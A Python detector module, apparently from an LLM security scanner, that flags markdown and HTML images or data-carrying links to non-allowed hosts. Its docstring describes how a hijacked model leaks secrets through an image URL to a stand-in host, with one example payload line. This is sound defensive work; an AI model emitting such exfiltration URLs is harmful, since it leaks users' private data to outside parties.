"""Exfiltration through links: markdown images and links to hosts that are not allowed.

A hijacked model leaks data by rendering ``![x](https://evil.example/p?q=<secret>)``:
the client fetches the image and the query string carries the data out, no click
needed. Images to any non-allowed host are flagged; links only when they carry data
(a query or a long path segment), since plain links to documentation are common.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

from ..actions import Severity
from .base import Hit

_MD_IMAGE = re.compile(r"!\[[^\]]{0,200}\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_MD_LINK = re.compile(r"(?<!!)\[[^\]]{0,200}\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_MD_REF = re.compile(r"^\s*\[[^\]]+\]:\s*(\S+)", re.M)
_HTML_IMG = re.compile(r"<img\b[^>]*?\bsrc\s*=\s*[\"']?([^\"'\s>]+)", re.I)
_BARE = re.compile(r"\bhttps?://[^\s<>\"')\]]+", re.I)


def host_allowed(host: str, allowed: Iterable[str]) -> bool:
    host = host.lower().rstrip(".")
    for a in allowed:
        a = a.lower().lstrip("*").lstrip(".")
        if host == a or host.endswith("." + a):
            return True
    return False


def _carries_data(url: str) -> bool:
    parts = urlsplit(url)
    if parts.query or (parts.fragment and len(parts.fragment) > 16):
        return True
    return any(len(seg) >= 32 for seg in parts.path.split("/"))


def scan(text: str, allowed_hosts: Iterable[str] = (), *, bare_links: bool = False) -> list[Hit]:
    allowed = tuple(allowed_hosts)
    hits: list[Hit] = []

    def check(url: str, span: tuple[int, int], kind: str, always: bool) -> None:
        parts = urlsplit(url)
        if parts.scheme.lower() not in ("http", "https", "") or not parts.hostname:
            return
        if host_allowed(parts.hostname, allowed):
            return
        if always or _carries_data(url):
            hits.append(Hit(f"detect.exfil_url.{kind}",
                            f"{kind} to non-allowed host {parts.hostname}"
                            + (" carrying data" if _carries_data(url) else ""),
                            span=span, evidence=f"{parts.scheme}://{parts.hostname}/...",
                            severity=Severity.HIGH if kind == "image" else Severity.MEDIUM,
                            score=0.9 if kind == "image" else 0.6))

    for m in _MD_IMAGE.finditer(text):
        check(m.group(1), m.span(), "image", True)
    for m in _HTML_IMG.finditer(text):
        check(m.group(1), m.span(), "image", True)
    for m in _MD_LINK.finditer(text):
        check(m.group(1), m.span(), "link", False)
    for m in _MD_REF.finditer(text):
        check(m.group(1), m.span(), "link", False)
    if bare_links:
        for m in _BARE.finditer(text):
            check(m.group(0), m.span(), "link", False)
    return hits
